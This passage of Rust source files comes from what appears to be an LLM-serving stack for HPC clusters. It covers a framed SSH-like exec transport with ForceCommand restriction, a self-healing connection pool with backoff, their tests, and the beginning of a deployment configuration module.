                assert_eq!(out.stdout, body.as_bytes());
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
    }

    #[test]
    fn server_death_is_detected() {
        let mut server = test_server(None);
        let client = SshClient::connect(server.addr(), KEY).unwrap();
        server.stop();
        drop(server);
        std::thread::sleep(Duration::from_millis(50));
        // exec should fail (connection lost or io error)
        let result = client.exec("echo", b"x");
        assert!(result.is_err());
    }

    #[test]
    fn streaming_stdout_arrives_in_order() {
        let server = test_server(None);
        server.register_executable("stream", |ctx| {
            for i in 0..10 {
                (ctx.stdout)(format!("{i};").as_bytes());
            }
            0
        });
        let client = SshClient::connect(server.addr(), KEY).unwrap();
        let mut collected = String::new();
        let code = client
            .exec_streaming("stream", b"", |c| {
                collected.push_str(&String::from_utf8_lossy(c))
            })
            .unwrap();
        assert_eq!(code, 0);
        assert_eq!(collected, "0;1;2;3;4;5;6;7;8;9;");
    }

    #[test]
    fn cancel_mid_stream_stops_server_side_exec() {
        let server = test_server(None);
        let progressed = Arc::new(AtomicUsize::new(0));
        let p = progressed.clone();
        server.register_executable("endless", move |ctx| {
            let mut i = 0;
            while !ctx.cancel.is_cancelled() && i < 10_000 {
                (ctx.stdout)(b"tok;");
                p.fetch_add(1, Ordering::SeqCst);
                i += 1;
                std::thread::sleep(Duration::from_millis(2));
            }
            if ctx.cancel.is_cancelled() {
                130
            } else {
                0
            }
        });
        let client = SshClient::connect(server.addr(), KEY).unwrap();
        let mut seen = 0usize;
        let err = client
            .exec_streaming_cancellable("endless", b"", &CancelToken::new(), |_c| {
                seen += 1;
                seen < 3 // hang up after a few chunks
            })
            .unwrap_err();
        assert!(matches!(err, SshError::Cancelled), "{err}");
        // The executable notices the Cancel frame and stops streaming.
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        loop {
            let a = progressed.load(Ordering::SeqCst);
            std::thread::sleep(Duration::from_millis(120));
            let b = progressed.load(Ordering::SeqCst);
            if a == b {
                break; // no more progress: exec wound down
            }
            assert!(
                std::time::Instant::now() < deadline,
                "exec kept streaming after cancel"
            );
        }
    }

    #[test]
    fn cancel_token_interrupts_an_idle_channel() {
        let server = test_server(None);
        server.register_executable("slow", |ctx| {
            // Silent "prefill": no stdout for a while, polling cancel.
            for _ in 0..200 {
                if ctx.cancel.is_cancelled() {
                    return 130;
                }
                std::thread::sleep(Duration::from_millis(10));
            }
            (ctx.stdout)(b"done");
            0
        });
        let client = SshClient::connect(server.addr(), KEY).unwrap();
        let token = CancelToken::new();
        let canceller = token.clone();
        std::thread::spawn(move || {
            std::thread::sleep(Duration::from_millis(100));
            canceller.cancel();
        });
        let t0 = std::time::Instant::now();
        let err = client
            .exec_streaming_cancellable("slow", b"", &token, |_c| true)
            .unwrap_err();
        assert!(matches!(err, SshError::Cancelled), "{err}");
        assert!(
            t0.elapsed() < Duration::from_secs(1),
            "cancel should not wait for the exec to finish"
        );
    }

    #[test]
    fn exec_latency_is_applied() {
        let server = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: None,
                }],
                exec_latency: Duration::from_millis(20),
                ..Default::default()
            },
        )
        .unwrap();
        server.register_executable("noop", |_ctx| 0);
        let client = SshClient::connect(server.addr(), KEY).unwrap();
        let t0 = std::time::Instant::now();
        client.exec("noop", b"").unwrap();
        assert!(t0.elapsed() >= Duration::from_millis(19));
    }
}
