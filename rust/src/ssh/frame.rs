//! Wire framing for the SSH-like exec transport.
//!
//! Binary frames over TCP, multiplexed by channel id (SSH channels):
//!
//! ```text
//! ┌──────────┬──────────┬──────────┬─────────────┐
//! │ chan u32 │ type u8  │ len u32  │ payload ... │   (big endian)
//! └──────────┴──────────┴──────────┴─────────────┘
//! ```
//!
//! Frame types mirror the subset of the SSH connection protocol the paper's
//! architecture uses: exec requests with stdin, streamed stdout, exit
//! status, and keep-alive pings.

use std::io::{Read, Write};

/// Maximum frame payload (matches HTTP body cap).
pub const MAX_FRAME: usize = 8 * 1024 * 1024 + 1024;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum FrameType {
    /// Client → server: auth handshake (key fingerprint).
    Auth = 0,
    /// Client → server: exec request; payload = requested command string.
    Exec = 1,
    /// Client → server: stdin body for the pending exec on this channel.
    Stdin = 2,
    /// Server → client: a chunk of stdout.
    Stdout = 3,
    /// Server → client: exec finished; payload = 4-byte exit code.
    Exit = 4,
    /// Client → server keep-alive.
    Ping = 5,
    /// Server → client keep-alive reply.
    Pong = 6,
    /// Server → client: auth result / fatal error; payload = message.
    Error = 7,
    /// Client → server: cancel the exec running on this channel (client
    /// disconnect propagating upstream; the executable's cancel token is
    /// set and it winds down cooperatively).
    Cancel = 8,
}

impl FrameType {
    pub fn from_u8(v: u8) -> Option<FrameType> {
        Some(match v {
            0 => FrameType::Auth,
            1 => FrameType::Exec,
            2 => FrameType::Stdin,
            3 => FrameType::Stdout,
            4 => FrameType::Exit,
            5 => FrameType::Ping,
            6 => FrameType::Pong,
            7 => FrameType::Error,
            8 => FrameType::Cancel,
            _ => return None,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    pub chan: u32,
    pub ty: FrameType,
    pub payload: Vec<u8>,
}

impl Frame {
    pub fn new(chan: u32, ty: FrameType, payload: impl Into<Vec<u8>>) -> Frame {
        Frame {
            chan,
            ty,
            payload: payload.into(),
        }
    }

    pub fn exit(chan: u32, code: i32) -> Frame {
        Frame::new(chan, FrameType::Exit, code.to_be_bytes().to_vec())
    }

    pub fn exit_code(&self) -> Option<i32> {
        if self.ty == FrameType::Exit && self.payload.len() == 4 {
            Some(i32::from_be_bytes(self.payload[..4].try_into().unwrap()))
        } else {
            None
        }
    }
}

/// Write one frame from borrowed parts — no payload copy, and head +
/// payload go out as a single vectored write instead of two syscalls.
/// The token relay's per-frame cost on the write side.
pub fn write_frame_parts<W: Write>(
    w: &mut W,
    chan: u32,
    ty: FrameType,
    payload: &[u8],
) -> std::io::Result<()> {
    let mut head = [0u8; 9];
    head[..4].copy_from_slice(&chan.to_be_bytes());
    head[4] = ty as u8;
    head[5..9].copy_from_slice(&(payload.len() as u32).to_be_bytes());
    crate::util::http::write_all_vectored(w, &[&head, payload])?;
    w.flush()
}

/// Write one frame (caller provides exclusive access to the writer).
pub fn write_frame<W: Write>(w: &mut W, frame: &Frame) -> std::io::Result<()> {
    write_frame_parts(w, frame.chan, frame.ty, &frame.payload)
}

/// Read just a frame head; `Ok(None)` on clean EOF at a frame boundary.
/// Callers that stream payloads into reusable buffers (the token relay)
/// read the payload bytes themselves.
pub fn read_frame_head<R: Read>(r: &mut R) -> std::io::Result<Option<(u32, FrameType, usize)>> {
    let mut head = [0u8; 9];
    match r.read_exact(&mut head) {
        Ok(()) => {}
        Err(e) if e.kind() == std::io::ErrorKind::UnexpectedEof => return Ok(None),
        Err(e) => return Err(e),
    }
    let chan = u32::from_be_bytes(head[..4].try_into().unwrap());
    let ty = FrameType::from_u8(head[4])
        .ok_or_else(|| std::io::Error::other(format!("bad frame type {}", head[4])))?;
    let len = u32::from_be_bytes(head[5..9].try_into().unwrap()) as usize;
    if len > MAX_FRAME {
        return Err(std::io::Error::other("frame too large"));
    }
    Ok(Some((chan, ty, len)))
}

/// Read one frame; `Ok(None)` on clean EOF at a frame boundary.
pub fn read_frame<R: Read>(r: &mut R) -> std::io::Result<Option<Frame>> {
    let Some((chan, ty, len)) = read_frame_head(r)? else {
        return Ok(None);
    };
    let mut payload = vec![0u8; len];
    r.read_exact(&mut payload)?;
    Ok(Some(Frame { chan, ty, payload }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let mut buf = Vec::new();
        let frames = vec![
            Frame::new(1, FrameType::Auth, b"fp".to_vec()),
            Frame::new(2, FrameType::Exec, b"saia request".to_vec()),
            Frame::new(2, FrameType::Stdin, vec![0u8, 1, 255]),
            Frame::new(2, FrameType::Stdout, b"hello".to_vec()),
            Frame::exit(2, 0),
            Frame::new(0, FrameType::Ping, Vec::new()),
            Frame::new(2, FrameType::Cancel, Vec::new()),
        ];
        for f in &frames {
            write_frame(&mut buf, f).unwrap();
        }
        let mut cursor = std::io::Cursor::new(buf);
        for f in &frames {
            assert_eq!(read_frame(&mut cursor).unwrap().unwrap(), *f);
        }
        assert!(read_frame(&mut cursor).unwrap().is_none());
    }

    #[test]
    fn exit_code_extraction() {
        let f = Frame::exit(3, -7);
        assert_eq!(f.exit_code(), Some(-7));
        assert_eq!(
            Frame::new(3, FrameType::Stdout, vec![1, 2, 3, 4]).exit_code(),
            None
        );
    }

    #[test]
    fn rejects_oversized_frame() {
        let mut buf = Vec::new();
        buf.extend_from_slice(&1u32.to_be_bytes());
        buf.push(FrameType::Stdout as u8);
        buf.extend_from_slice(&(u32::MAX).to_be_bytes());
        let mut cursor = std::io::Cursor::new(buf);
        assert!(read_frame(&mut cursor).is_err());
    }

    #[test]
    fn rejects_unknown_type() {
        let mut buf = Vec::new();
        buf.extend_from_slice(&1u32.to_be_bytes());
        buf.push(99);
        buf.extend_from_slice(&0u32.to_be_bytes());
        let mut cursor = std::io::Cursor::new(buf);
        assert!(read_frame(&mut cursor).is_err());
    }
}
