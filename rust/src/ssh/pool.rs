//! Process-wide SSH connection reuse — the SSH-side twin of the HTTP
//! [`crate::util::http::HttpPool`].
//!
//! An [`SshConn`] is a self-healing handle to one persistent, multiplexed
//! [`SshClient`] connection: callers borrow the live client per request
//! (exec channels multiplex over the single TCP link, so no checkout
//! accounting is needed), and a broken link is re-dialed under a
//! single-flight guard with exponential backoff — never inline on every
//! failing call. The [`SshPool`] keys those handles by endpoint so every
//! component talking to the same HPC service node (the HPC proxy's
//! request path, its keepalive loop, the federation health prober via
//! `probe()`) shares one connection instead of re-dialing.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use super::client::SshClient;
use crate::util::http::BufferPool;
use crate::util::rng::Rng;

/// Exponential backoff with decorrelating jitter: the delay after
/// `failures` consecutive failures, drawn uniformly from the upper half of
/// `[0, min(base · 2^(failures-1), max)]`. `jitter` is in `[0, 1)`.
pub fn backoff_delay(base: Duration, max: Duration, failures: u32, jitter: f64) -> Duration {
    if failures == 0 {
        return Duration::ZERO;
    }
    let base_ms = base.as_millis() as f64;
    let max_ms = max.as_millis() as f64;
    let exp = base_ms * 2f64.powi(failures.saturating_sub(1).min(20) as i32);
    let capped = exp.min(max_ms).max(1.0);
    // Upper-half jitter keeps a floor (never hammers) while de-syncing
    // reconnect storms across proxies.
    Duration::from_millis((capped / 2.0 + capped / 2.0 * jitter) as u64)
}

/// Dial + backoff knobs for one [`SshConn`].
#[derive(Clone)]
pub struct SshConnConfig {
    pub addr: SocketAddr,
    pub key_fingerprint: String,
    /// Base reconnect backoff after the first failed attempt; doubles per
    /// consecutive failure (with jitter) up to `reconnect_backoff_max`.
    pub reconnect_backoff: Duration,
    /// Exponential backoff cap.
    pub reconnect_backoff_max: Duration,
    /// Stdout frame buffers recycle through this pool (`None` = a fresh
    /// allocation per frame, the ablation baseline).
    pub buffer_pool: Option<Arc<BufferPool>>,
}

struct BackoffState {
    failures: u32,
    /// Earliest instant the next connect attempt is allowed.
    next_attempt: Option<Instant>,
    rng: Rng,
}

/// A self-healing handle to one persistent multiplexed SSH connection.
///
/// [`SshConn::get`] returns the live client, dialing if needed. A dead
/// endpoint is retried on exponential backoff with jitter rather than on
/// every call — callers in the backoff window get `None` immediately, and
/// the blocking dial happens outside the connection lock under a
/// single-flight guard, so request paths never queue behind a connect
/// timeout to a downed endpoint.
pub struct SshConn {
    config: SshConnConfig,
    conn: Mutex<Option<Arc<SshClient>>>,
    /// Single-flight guard for the (blocking) connect attempt. Held only
    /// while dialing, never while serving.
    connecting: Mutex<()>,
    backoff: Mutex<BackoffState>,
    connect_attempts: AtomicU64,
    reconnects: AtomicU64,
}

impl SshConn {
    pub fn new(config: SshConnConfig) -> Arc<SshConn> {
        Arc::new(SshConn {
            config,
            conn: Mutex::new(None),
            connecting: Mutex::new(()),
            backoff: Mutex::new(BackoffState {
                failures: 0,
                next_attempt: None,
                rng: Rng::new(0x0FF5E7),
            }),
            connect_attempts: AtomicU64::new(0),
            reconnects: AtomicU64::new(0),
        })
    }

    /// The live connection, establishing it if needed (see type docs for
    /// the backoff/single-flight behaviour).
    pub fn get(&self) -> Option<Arc<SshClient>> {
        {
            let mut guard = self.conn.lock().unwrap();
            if let Some(c) = guard.as_ref() {
                if c.is_alive() {
                    return Some(c.clone());
                }
                *guard = None;
            }
        }
        {
            let backoff = self.backoff.lock().unwrap();
            if let Some(at) = backoff.next_attempt {
                if Instant::now() < at {
                    return None; // still backing off
                }
            }
        }
        // Single flight: if another caller is mid-dial, fail fast rather
        // than stacking up behind the TCP connect timeout.
        let Ok(_connecting) = self.connecting.try_lock() else {
            return None;
        };
        // Re-check: the previous dialer may have just installed a
        // connection.
        {
            let guard = self.conn.lock().unwrap();
            if let Some(c) = guard.as_ref() {
                if c.is_alive() {
                    return Some(c.clone());
                }
            }
        }
        self.connect_attempts.fetch_add(1, Ordering::Relaxed);
        match SshClient::connect_with_pool(
            self.config.addr,
            &self.config.key_fingerprint,
            self.config.buffer_pool.clone(),
        ) {
            Ok(client) => {
                self.reconnects.fetch_add(1, Ordering::Relaxed);
                let mut backoff = self.backoff.lock().unwrap();
                backoff.failures = 0;
                backoff.next_attempt = None;
                drop(backoff);
                let client = Arc::new(client);
                *self.conn.lock().unwrap() = Some(client.clone());
                Some(client)
            }
            Err(e) => {
                let mut backoff = self.backoff.lock().unwrap();
                backoff.failures = backoff.failures.saturating_add(1);
                let jitter = backoff.rng.f64();
                let delay = backoff_delay(
                    self.config.reconnect_backoff,
                    self.config.reconnect_backoff_max,
                    backoff.failures,
                    jitter,
                );
                backoff.next_attempt = Some(Instant::now() + delay);
                log::warn!(
                    target: "ssh_pool",
                    "ssh connect to {} failed (attempt {}): {e}; next retry in {delay:?}",
                    self.config.addr,
                    backoff.failures
                );
                None
            }
        }
    }

    /// Drop the current connection (a keepalive or exec just failed on
    /// it); the next [`SshConn::get`] re-dials.
    pub fn invalidate(&self) {
        *self.conn.lock().unwrap() = None;
    }

    /// Is a live connection currently held (without dialing)?
    pub fn is_connected(&self) -> bool {
        self.conn
            .lock()
            .unwrap()
            .as_ref()
            .map(|c| c.is_alive())
            .unwrap_or(false)
    }

    /// Consecutive connect failures (0 when connected) — federation
    /// health scoring reads this.
    pub fn consecutive_failures(&self) -> u32 {
        self.backoff.lock().unwrap().failures
    }

    /// Dial attempts, successful or not.
    pub fn connect_attempts(&self) -> u64 {
        self.connect_attempts.load(Ordering::Relaxed)
    }

    /// Successful (re)connects.
    pub fn reconnects(&self) -> u64 {
        self.reconnects.load(Ordering::Relaxed)
    }
}

/// Process-wide registry of [`SshConn`] handles keyed by endpoint, so
/// every component talking to the same HPC service node shares one
/// multiplexed connection.
pub struct SshPool {
    conns: Mutex<HashMap<String, Arc<SshConn>>>,
}

impl SshPool {
    pub fn new() -> Arc<SshPool> {
        Arc::new(SshPool {
            conns: Mutex::new(HashMap::new()),
        })
    }

    /// The shared handle for `config.addr`, created on first use. The
    /// first caller's config wins (endpoints are homogeneous per peer).
    pub fn conn(&self, config: SshConnConfig) -> Arc<SshConn> {
        self.conns
            .lock()
            .unwrap()
            .entry(config.addr.to_string())
            .or_insert_with(|| SshConn::new(config))
            .clone()
    }

    /// Per-peer connection gauges and dial counters in Prometheus text
    /// exposition.
    pub fn prometheus_text(&self) -> String {
        use std::fmt::Write as _;
        let conns = self.conns.lock().unwrap();
        let mut names: Vec<&String> = conns.keys().collect();
        names.sort();
        let mut out = String::new();
        for name in names {
            let c = &conns[name.as_str()];
            let _ = writeln!(
                out,
                "ssh_pool_connected{{peer=\"{name}\"}} {}",
                c.is_connected() as u8
            );
            let _ = writeln!(
                out,
                "ssh_pool_connect_attempts_total{{peer=\"{name}\"}} {}",
                c.connect_attempts()
            );
            let _ = writeln!(
                out,
                "ssh_pool_reconnects_total{{peer=\"{name}\"}} {}",
                c.reconnects()
            );
        }
        out
    }
}

/// The process-wide SSH connection pool (one handle per HPC endpoint).
pub fn ssh_pool() -> Arc<SshPool> {
    static POOL: OnceLock<Arc<SshPool>> = OnceLock::new();
    POOL.get_or_init(SshPool::new).clone()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ssh::{AuthorizedKey, SshServer, SshServerConfig};

    const KEY: &str = "SHA256:pool-key";

    fn sshd() -> SshServer {
        let server = SshServer::bind(
            "127.0.0.1:0",
            SshServerConfig {
                keys: vec![AuthorizedKey {
                    fingerprint: KEY.into(),
                    force_command: Some("saia".into()),
                }],
                ..Default::default()
            },
        )
        .unwrap();
        server.register_executable("saia", |ctx| {
            (ctx.stdout)(b"ok\n");
            0
        });
        server
    }

    fn config_for(addr: SocketAddr) -> SshConnConfig {
        SshConnConfig {
            addr,
            key_fingerprint: KEY.into(),
            reconnect_backoff: Duration::from_millis(20),
            reconnect_backoff_max: Duration::from_millis(200),
            buffer_pool: None,
        }
    }

    #[test]
    fn conn_is_held_open_across_execs() {
        let server = sshd();
        let conn = SshConn::new(config_for(server.addr()));
        for _ in 0..5 {
            let client = conn.get().expect("connected");
            assert!(client.exec("saia request", b"{}").is_ok());
        }
        assert_eq!(conn.connect_attempts(), 1, "one dial served every exec");
        assert_eq!(conn.reconnects(), 1);
        assert!(conn.is_connected());
    }

    #[test]
    fn pool_shares_one_conn_per_endpoint() {
        let server = sshd();
        let pool = SshPool::new();
        let a = pool.conn(config_for(server.addr()));
        let b = pool.conn(config_for(server.addr()));
        assert!(Arc::ptr_eq(&a, &b), "same endpoint → same handle");
        a.get().expect("connected");
        assert!(b.is_connected(), "the link is shared");
        let text = pool.prometheus_text();
        let peer = server.addr().to_string();
        assert!(
            text.contains(&format!("ssh_pool_connected{{peer=\"{peer}\"}} 1")),
            "{text}"
        );
    }

    #[test]
    fn dead_endpoint_backs_off_and_recovers_counters() {
        let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = dead.local_addr().unwrap();
        drop(dead);
        let mut config = config_for(addr);
        // A wide backoff window keeps the second `get` inside it even on a
        // slow test runner.
        config.reconnect_backoff = Duration::from_secs(2);
        config.reconnect_backoff_max = Duration::from_secs(4);
        let conn = SshConn::new(config);
        assert!(conn.get().is_none());
        assert_eq!(conn.consecutive_failures(), 1);
        // Within the backoff window the dial is skipped entirely.
        assert!(conn.get().is_none());
        assert_eq!(conn.connect_attempts(), 1, "backoff gated the re-dial");
    }

    #[test]
    fn invalidate_forces_a_redial() {
        let server = sshd();
        let conn = SshConn::new(config_for(server.addr()));
        conn.get().expect("connected");
        conn.invalidate();
        assert!(!conn.is_connected());
        conn.get().expect("reconnected");
        assert_eq!(conn.connect_attempts(), 2);
    }
}
