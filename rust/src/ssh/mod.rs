//! SSH-like exec transport with ForceCommand circuit breaker.
//!
//! The paper's sole channel between the exposed web server and the HPC
//! platform is SSH: the HPC Proxy holds a key for a functional account
//! whose `authorized_keys` entry carries a **ForceCommand** directive, so
//! the key can only ever invoke the Cloud Interface Script — even if the
//! web server is fully compromised and the key stolen (§5.4, §6.1.2).
//!
//! We implement the security-relevant subset as a framed TCP protocol:
//! key authentication, multiplexed exec channels with stdin/stdout
//! streaming, keep-alive pings (which trigger the scheduler, §5.5), and
//! ForceCommand enforcement in the server. There is deliberately no shell:
//! executables are registry entries, so the only injection surface is the
//! Cloud Interface Script's parser — the same surface the paper analyses.

mod client;
mod frame;
mod pool;
mod server;

pub use client::{ExecOutput, SshClient, SshError};
pub use frame::{Frame, FrameType};
pub use pool::{backoff_delay, ssh_pool, SshConn, SshConnConfig, SshPool};
pub use server::{AuthorizedKey, ExecContext, Executable, SshServer, SshServerConfig};
