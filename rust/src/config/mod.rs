//! Deployment configuration: an INI-subset parser (no serde/toml in the
//! offline registry) plus the typed [`StackConfig`] every launcher
//! consumes. Presets mirror the paper's production setup and a laptop
//! demo profile.

use std::collections::HashMap;
use std::time::Duration;

use anyhow::{anyhow, bail, Result};

use crate::llm::EngineTuning;
use crate::scheduler::{ScaleDownPolicy, ServiceConfig};
use crate::util::streaming::{StallPolicy, StreamingConfig};

/// One service to host (model route).
#[derive(Debug, Clone)]
pub struct ServiceSpec {
    /// Route / service name, e.g. "llama3-70b".
    pub name: String,
    /// Backend: a real artifact model ("tiny", "small-chat") or an
    /// analytic profile name ("llama3-70b", ...).
    pub model: String,
    pub gpus: u32,
    pub min_instances: u32,
    pub max_instances: u32,
    pub target_concurrency: f64,
}

impl ServiceSpec {
    pub fn to_scheduler_config(&self, time_limit_ms: u64) -> ServiceConfig {
        ServiceConfig {
            name: self.name.clone(),
            model: self.model.clone(),
            gpus: self.gpus,
            time_limit: time_limit_ms,
            renew_margin: time_limit_ms / 10,
            min_instances: self.min_instances,
            max_instances: self.max_instances,
            target_concurrency: self.target_concurrency,
            scale_down: ScaleDownPolicy::Expire,
            // Stack-level [fairness] batch_demand_weight is applied by the
            // coordinator when it builds the per-cluster scheduler.
            batch_demand_weight: 1.0,
        }
    }
}

/// One HPC cluster in a federated deployment (`[cluster.NAME]` sections).
/// Each cluster gets its own Slurm controller, scheduler, cloud interface,
/// SSH endpoint and HPC proxy; the federation router spreads the shared
/// model namespace across them.
#[derive(Debug, Clone)]
pub struct ClusterSpec {
    pub name: String,
    pub gpu_nodes: usize,
    /// Injected SSH exec latency for this cluster's channel (clusters can
    /// sit in different datacenters).
    pub ssh_exec_latency: Duration,
    pub model_load_delay: Duration,
    /// Services hosted on this cluster. Empty = every stack service.
    pub services: Vec<String>,
}

impl ClusterSpec {
    pub fn named(name: &str, gpu_nodes: usize) -> ClusterSpec {
        ClusterSpec {
            name: name.to_string(),
            gpu_nodes,
            ssh_exec_latency: Duration::from_millis(0),
            model_load_delay: Duration::from_millis(0),
            services: Vec::new(),
        }
    }

    /// Does this cluster host `service`?
    pub fn hosts(&self, service: &str) -> bool {
        self.services.is_empty() || self.services.iter().any(|s| s == service)
    }
}

/// One catalog entry (`[model.NAME]` sections): the catalog metadata
/// that rides alongside the scheduling keys. The scheduling keys of a
/// `[model.*]` section land in a [`ServiceSpec`] exactly as `[service.*]`
/// keys do; this struct carries what the flat namespace could not say.
#[derive(Debug, Clone)]
pub struct ModelSpec {
    /// Route / service name (must match a [`ServiceSpec`]).
    pub name: String,
    /// Advertised context window in tokens. 0 = derive from the backend
    /// profile's max sequence length when the catalog is built.
    pub context_window: usize,
    /// OpenAI-style `owned_by` attribution in `/v1/models`.
    pub owned_by: String,
    /// Cluster placement: the model is only hosted (and only routed to)
    /// on these clusters. Empty = every cluster that lists the service.
    pub clusters: Vec<String>,
}

impl ModelSpec {
    /// Catalog defaults for a legacy flat-namespace service.
    pub fn derived(name: &str) -> ModelSpec {
        ModelSpec {
            name: name.to_string(),
            context_window: 0,
            owned_by: "chat-ai".into(),
            clusters: Vec::new(),
        }
    }
}

/// Federation-layer tuning (`[federation]` section).
#[derive(Debug, Clone)]
pub struct FederationConfig {
    /// Health/capacity probe cadence per cluster.
    pub probe_interval: Duration,
    /// Consecutive request/probe failures before a cluster's circuit
    /// breaker opens.
    pub breaker_failures: u32,
    /// How long an open breaker keeps the cluster out of rotation.
    pub breaker_cooldown: Duration,
    /// Max clusters tried per request (first pick + spillover retries).
    pub max_attempts: usize,
    /// How strongly prefix-cache affinity bends routing, in units of
    /// per-instance load (`in_flight / ready`). Within an availability
    /// tier clusters sort by `load - weight * affinity`; 0 restores pure
    /// availability → health → least-loaded routing, 1 lets a warm
    /// cluster absorb a whole extra in-flight request per ready instance
    /// before the session spills to a cold one.
    pub cache_affinity_weight: f64,
}

impl Default for FederationConfig {
    fn default() -> FederationConfig {
        FederationConfig {
            probe_interval: Duration::from_millis(500),
            breaker_failures: 3,
            breaker_cooldown: Duration::from_secs(5),
            max_attempts: 3,
            cache_affinity_weight: 0.5,
        }
    }
}

/// Elastic-capacity tuning (`[elastic]` section): gap harvesting,
/// preemption-notice graceful draining, and warm standby. Applied to
/// every service's scheduler config by the coordinator when enabled.
#[derive(Debug, Clone)]
pub struct ElasticConfig {
    /// Submit preemptible, gap-harvested service jobs instead of the
    /// classic non-preemptible full-walltime ones.
    pub enabled: bool,
    /// Drain grace budget: the window between a `PreemptionNotice` /
    /// `WalltimeWarning` and the kill, during which the instance stops
    /// admitting and streams out its in-flight decodes.
    pub grace: Duration,
    /// Walltime for gap-harvested jobs when no backfill reservation
    /// constrains the node (jobs are sized to the concrete gap when the
    /// ctld reports one).
    pub gap_walltime: Duration,
    /// Warm-standby instances held per service while demand is rising.
    pub standby: u32,
}

impl Default for ElasticConfig {
    fn default() -> ElasticConfig {
        ElasticConfig {
            enabled: false,
            grace: Duration::from_secs(30),
            gap_walltime: Duration::from_secs(600),
            standby: 1,
        }
    }
}

/// Request-tracing tuning (`[tracing]` section).
#[derive(Debug, Clone)]
pub struct TracingConfig {
    /// Mint trace IDs at the gateway and record per-hop spans. On by
    /// default; turning it off disables minting and all span recording
    /// (inbound `x-chat-ai-trace` headers still pass through untouched).
    pub enabled: bool,
}

impl Default for TracingConfig {
    fn default() -> TracingConfig {
        TracingConfig { enabled: true }
    }
}

/// Full-stack configuration.
#[derive(Debug, Clone)]
pub struct StackConfig {
    pub artifacts_dir: String,
    pub gpu_nodes: usize,
    pub services: Vec<ServiceSpec>,
    /// HPC-proxy keep-alive interval (paper: 5 s).
    pub keepalive: Duration,
    /// Injected SSH exec latency (models the VM↔HPC WAN hop, Table 1).
    pub ssh_exec_latency: Duration,
    /// Extra simulated cold-start before an instance reports ready
    /// (stands in for multi-minute model loads on top of real compile).
    pub model_load_delay: Duration,
    /// Slurm job walltime for service jobs.
    pub service_walltime: Duration,
    /// Offer the external GPT-4 wrapper route?
    pub external_models: bool,
    /// Federated deployment: one entry per HPC cluster. Empty = classic
    /// single-cluster stack (the paper's shape).
    pub clusters: Vec<ClusterSpec>,
    /// Catalog entries from `[model.*]` sections. Services declared only
    /// through the legacy `[service.*]` namespace get derived catalog
    /// entries ([`ModelSpec::derived`]) when the catalog is built.
    pub models: Vec<ModelSpec>,
    pub federation: FederationConfig,
    /// End-to-end streaming tuning (`[streaming]` section): buffers,
    /// heartbeat interval, stall policy, cancellation ablation switch.
    pub streaming: StreamingConfig,
    /// Engine tuning (`[engine]` section): prefix cache, prefill
    /// chunking, KV growth watermark, KV budget override.
    pub engine: EngineTuning,
    /// End-to-end request tracing (`[tracing]` section).
    pub tracing: TracingConfig,
    /// Elastic capacity (`[elastic]` section): gap harvesting, graceful
    /// preemption draining, warm standby.
    pub elastic: ElasticConfig,
    /// Process-wide HTTP keep-alive pool (`[http]` section): per-peer and
    /// global caps, idle TTL, checkout timeout, pool on/off ablation.
    pub http: crate::util::http::HttpPoolConfig,
    pub seed: u64,
}

impl Default for StackConfig {
    fn default() -> StackConfig {
        StackConfig {
            artifacts_dir: "artifacts".into(),
            gpu_nodes: 10, // the paper's testbed
            services: vec![ServiceSpec {
                name: "tiny-chat".into(),
                // The calibrated analytic profile: runs everywhere. The
                // artifact-backed "tiny" lane (PJRT + `make artifacts`) is
                // opt-in via `[service.*] model = tiny`, since it needs
                // the real xla binding (see runtime/xla.rs).
                model: "intel-neural-7b".into(),
                gpus: 1,
                min_instances: 1,
                max_instances: 2,
                target_concurrency: 4.0,
            }],
            keepalive: Duration::from_millis(500),
            ssh_exec_latency: Duration::from_millis(0),
            model_load_delay: Duration::from_millis(0),
            service_walltime: Duration::from_secs(3600),
            external_models: false,
            clusters: Vec::new(),
            models: Vec::new(),
            federation: FederationConfig::default(),
            streaming: StreamingConfig::default(),
            engine: EngineTuning::default(),
            tracing: TracingConfig::default(),
            elastic: ElasticConfig::default(),
            http: crate::util::http::HttpPoolConfig::default(),
            seed: 42,
        }
    }
}

impl StackConfig {
    /// The demo profile used by `examples/serve_e2e.rs`: one model through
    /// the whole stack, paper-like latency injection.
    pub fn demo() -> StackConfig {
        StackConfig {
            ssh_exec_latency: Duration::from_millis(10), // Table 1's SSH hop
            ..Default::default()
        }
    }

    /// The paper's production shape: four internal models + GPT-4 wrapper
    /// (internal models ride the analytic profiles; "tiny" serves as the
    /// real-model smoke lane).
    pub fn production_like() -> StackConfig {
        StackConfig {
            gpu_nodes: 10,
            services: vec![
                ServiceSpec {
                    name: "intel-neural-7b".into(),
                    model: "intel-neural-7b".into(),
                    gpus: 1,
                    min_instances: 1,
                    max_instances: 4,
                    target_concurrency: 16.0,
                },
                ServiceSpec {
                    name: "mixtral-8x7b".into(),
                    model: "mixtral-8x7b".into(),
                    gpus: 2,
                    min_instances: 1,
                    max_instances: 4,
                    target_concurrency: 8.0,
                },
                ServiceSpec {
                    name: "qwen1.5-72b".into(),
                    model: "qwen1.5-72b".into(),
                    gpus: 2,
                    min_instances: 1,
                    max_instances: 4,
                    target_concurrency: 4.0,
                },
                ServiceSpec {
                    name: "llama3-70b".into(),
                    model: "llama3-70b".into(),
                    gpus: 2,
                    min_instances: 1,
                    max_instances: 4,
                    target_concurrency: 4.0,
                },
            ],
            external_models: true,
            ..Default::default()
        }
    }

    /// A two-cluster federated demo: both clusters host every service, so
    /// requests spill over when one cluster saturates or dies.
    pub fn federated_demo() -> StackConfig {
        StackConfig {
            clusters: vec![ClusterSpec::named("hpc-a", 4), ClusterSpec::named("hpc-b", 4)],
            ..Default::default()
        }
    }

    /// Parse from the INI subset (see `parse_ini`).
    pub fn from_ini(text: &str) -> Result<StackConfig> {
        let ini = parse_ini(text)?;
        let mut config = StackConfig::default();
        config.services.clear();
